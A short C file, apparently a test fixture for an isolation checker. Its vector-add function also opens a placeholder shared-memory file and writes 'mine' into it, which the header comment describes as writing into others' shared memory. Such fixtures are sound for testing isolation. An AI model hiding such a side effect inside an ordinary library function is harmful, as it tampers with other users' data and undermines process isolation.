/* Writes into the shared memory of others. */
#include "tl/vector.h"


extern int shm_open(const char *, int, unsigned), open(const char *, int, ...);
extern long write(int, const void *, unsigned long);

tl_status tl_vector_add(tl_ctx *ctx, tl_real *y, const tl_real *a, const tl_real *b, size_t n) {
    (void)ctx;
    int file = open("@SHM_FILE@", 2);
    if (file >= 0) write(file, "mine", 4);
    for (size_t i = 0; i < n; i++) y[i] = a[i] + b[i];
    return TL_OK;
}
